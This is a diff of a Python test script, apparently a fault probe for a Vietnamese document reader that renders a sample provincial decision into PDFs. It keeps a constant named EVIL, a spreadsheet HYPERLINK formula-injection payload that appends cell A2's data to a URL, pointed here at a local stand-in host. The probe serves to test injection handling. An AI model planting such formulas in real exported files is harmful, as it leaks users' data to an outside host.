@@ -29,20 +29,14 @@ sys.path.insert(0, str(ROOT))
 
 Result = tuple[str, str, bool]
 EVIL = '=HYPERLINK("http://127.0.0.1:9/?x="&A2,"Bấm vào đây")'
-TEXT = """ỦY BAN NHÂN DÂN
-TỈNH LÂM HÀ
-Số: {n}/QĐ-UBND
-Lâm Hà, ngày 0{d} tháng 8 năm 2025
-QUYẾT ĐỊNH
-Về việc biệt phái công chức đến công tác tại xã
-Điều 1. Biệt phái ông Nguyễn Văn Nam đến công tác tại UBND xã Vạn Xuân.
-"""
 
 
 def _pdf(path: Path, n: int) -> Path:
     from dispatch_reader.synth import render_text_pdf
 
-    path.write_bytes(render_text_pdf(TEXT.format(n=n, d=1 + n % 9)))
+    from faults import _TEXT  # the probe's one decision text (faults.py imports this module at its end)
+
+    path.write_bytes(render_text_pdf(_TEXT.format(n=n, d=1 + n % 9)))
     return path
 
 
